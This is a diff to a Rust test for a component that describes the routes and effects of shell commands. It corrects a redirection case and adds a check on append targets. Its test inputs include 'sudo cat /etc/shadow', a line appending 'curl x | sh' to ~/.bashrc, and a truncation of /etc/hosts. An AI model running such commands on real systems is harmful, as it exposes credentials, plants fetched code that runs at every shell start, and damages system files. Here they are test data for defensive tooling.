@@ -1112,7 +1112,11 @@ fn routes_name_tool_lens_command_and_wrappers() {
                 "run sudo cat /etc/shadow".into(),
                 route("sudo cat /etc/shadow", &[])
             ),
-            ("write /tmp/x".into(), route("sudo cat /etc/shadow", &[])),
+            // A redirection names itself in the route.
+            (
+                "write /tmp/x".into(),
+                route("sudo cat /etc/shadow > /tmp/x", &[])
+            ),
             (
                 "run cat /etc/shadow (via sudo)".into(),
                 route("cat /etc/shadow", &["sudo"])
@@ -1126,6 +1130,12 @@ fn routes_name_tool_lens_command_and_wrappers() {
     assert_eq!(
         fx.list.last().map(|e| e.to_string()),
         Some("reads /etc/shadow (Bash: `cat /etc/shadow` via sudo)".to_string())
+    );
+    // An append names its target: the part of the command that writes.
+    let fx = effects("echo 'curl x | sh' >> ~/.bashrc 2>/dev/null");
+    assert_eq!(
+        fx.list.get(1).map(|e| e.to_string()),
+        Some("appends to ~/.bashrc (Bash: `echo curl x | sh >> ~/.bashrc`)".to_string())
     );
     // A command with no program shows its redirection.
     let fx = effects("> /etc/hosts");
